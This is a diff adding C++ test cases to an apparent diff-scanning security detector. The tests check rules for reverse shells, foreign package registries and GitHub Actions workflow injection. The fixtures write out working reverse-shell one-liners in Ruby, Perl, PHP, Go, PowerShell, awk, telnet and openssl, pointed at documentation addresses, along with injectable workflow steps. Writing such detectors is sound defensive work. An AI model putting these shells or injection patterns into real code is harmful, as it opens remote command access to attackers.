@@ -161,6 +161,65 @@ TEST_CASE("malice on one line") {
              {"a.py", "data = base64.b64decode(text)"}});
 }
 
+TEST_CASE("attack: a shell on a socket, language by language") {
+  const std::vector<std::pair<std::string, std::string>> shells = {
+      {"a.rb", "+s = TCPSocket.open(host, 4444); $stdin.reopen(s); $stdout.reopen(s); exec \"/bin/sh\"\n"},
+      {"a.pl",
+       "+connect(S, sockaddr_in(9001, inet_aton($h)));\n+open(STDIN, \">&S\");\n+open(STDOUT, \">&S\");\n"
+       "+exec(\"/bin/sh -i\");\n"},
+      {"a.php", "+$s = fsockopen($h, 9001);\n+$p = proc_open(\"/bin/sh -i\", [0 => $s, 1 => $s, 2 => $s], $pipes);\n"},
+      {"a.go", "+c, _ := net.Dial(\"tcp\", h)\n+cmd := exec.Command(\"/bin/sh\")\n+cmd.Stdin = c\n+cmd.Stdout = c\n"},
+      {"a.ps1",
+       "+$c = New-Object System.Net.Sockets.TCPClient($h, 9001)\n+$st = $c.GetStream()\n"
+       "+$o = (iex $d 2>&1 | Out-String)\n"},
+      {"a.sh", "+awk 'BEGIN { s = \"/inet/tcp/0/203.0.113.7/9001\"; while (1) { s |& getline c } }'\n"},
+      {"a.sh", "+telnet 203.0.113.7 9001 | /bin/sh | telnet 203.0.113.7 9002\n"},
+      {"a.sh", "+/bin/sh -i < /tmp/p 2>&1 | openssl s_client -quiet -connect c.example:443 > /tmp/p\n"},
+  };
+  for (const auto& [path, body] : shells) {
+    INFO(path << ": " << body);
+    CHECK(has_rule(judge(make_diff(path, body)), "reverse-shell"));
+  }
+  for (const auto& [path, body] : std::vector<std::pair<std::string, std::string>>{
+           {"a.sh", "+openssl s_client -connect localhost:443 < /dev/null\n"},
+           {"a.go", "+c, _ := net.Dial(\"tcp\", h)\n+cmd := exec.Command(\"/bin/ls\")\n+cmd.Stdout = os.Stdout\n"},
+           {"a.ps1", "+$c = New-Object System.Net.Sockets.TCPClient($h, 9001)\n+$st = $c.GetStream()\n"}}) {
+    INFO(path << ": " << body);
+    CHECK(!has_rule(judge(make_diff(path, body)), "reverse-shell"));
+  }
+}
+
+TEST_CASE("packages from elsewhere, ecosystem by ecosystem") {
+  const std::vector<std::pair<std::string, std::string>> foreign = {
+      {"composer.json", "+  \"repositories\": [{\"type\": \"vcs\", \"url\": \"https://git.example.net/x\"}],\n"},
+      {"composer.json",
+       "   \"repositories\": [\n     {\n       \"type\": \"composer\",\n"
+       "+      \"url\": \"https://packages.example.net\"\n     }\n"},
+      {"pom.xml", "   <repository>\n     <id>x</id>\n+    <url>http://repo.example.net/m2</url>\n   </repository>\n"},
+      {"requirements/base.in", "+requests @ git+https://git.example.net/x/requests.git@main\n"},
+      {"dev-requirements.txt", "+-i https://pip.example.net/simple\n"},
+      {"pyproject.toml", " [[tool.poetry.source]]\n+url = \"https://pip.example.net/simple\"\n"},
+      {"pyproject.toml", " [tool.uv.sources]\n+httpx = { git = \"https://git.example.net/x/httpx\" }\n"},
+      {"Cargo.toml", " [registries.mine]\n+index = \"sparse+https://crates.example.net/index/\"\n"},
+  };
+  for (const auto& [path, body] : foreign) {
+    INFO(path << ": " << body);
+    CHECK(has_rule(judge(make_diff(path, body)), "dependency-suspicious"));
+  }
+  for (const auto& [path, body] : std::vector<std::pair<std::string, std::string>>{
+           {"composer.json", "+  \"homepage\": \"https://shop.example\",\n"},
+           {"composer.json", "   \"support\": {\n+    \"url\": \"https://shop.example\"\n"},
+           {"pom.xml", " <project>\n+  <url>https://shop.example</url>\n"},
+           {"pom.xml", " <distributionManagement>\n   <repository>\n+    <url>https://repo.example.net</url>\n"},
+           {"pyproject.toml", " [project.urls]\n+url = \"https://shop.example\"\n"},
+           {"Cargo.toml", " [package]\n+homepage = \"https://shop.example\"\n"}}) {
+    INFO(path << ": " << body);
+    CHECK(!has_rule(judge(make_diff(path, body)), "dependency-suspicious"));
+  }
+  CHECK(has_rule(judge(make_diff("composer.json", "   \"require\": {\n+    \"nesbot/carbon\": \"^3.0\",\n")),
+                 "dependency-added"));
+}
+
 TEST_CASE("malice over several lines") {
   const std::string shell = make_diff("svc/health.py",
                                       "+s = socket.socket(); s.connect((\"203.0.113.71\", 4433))\n+os.dup2(s.fileno(), "
@@ -193,6 +252,20 @@ TEST_CASE("containers and clouds") {
   CHECK(findings_of(make_diff("n.tf", " ingress {\n+  cidr_blocks = [\"0.0.0.0/0\"]\n }\n")) ==
         std::vector<std::string>{"infra-exposure:11"});
   CHECK(findings_of(make_diff("n.tf", " egress {\n+  cidr_blocks = [\"0.0.0.0/0\"]\n }\n")).empty());
+}
+
+TEST_CASE("a step's environment is no part of its one-line script") {
+  const std::string title = "${{ github.event.pull_request.title }}";
+  const auto injected = [](const std::string& body) {
+    return has_rule(judge(make_diff(".github/workflows/ci.yml", body)), "workflow-injection");
+  };
+  CHECK(
+      !injected("     steps:\n+      - run: ./label.sh \"$TITLE\"\n+        env:\n+          TITLE: " + title + "\n"));
+  CHECK(
+      !injected("+      - name: x\n+        run: ./l.sh \"$TITLE\"\n+        env:\n+          TITLE: " + title + "\n"));
+  CHECK(injected("     steps:\n+      - run: ./label.sh \"" + title + "\"\n"));
+  CHECK(injected("     steps:\n+      - run: |\n+          ./label.sh \"" + title + "\"\n"));
+  CHECK(injected("     steps:\n+      - run: >\n+            ./label.sh\n+            \"" + title + "\"\n"));
 }
 
 TEST_CASE("workflows") {
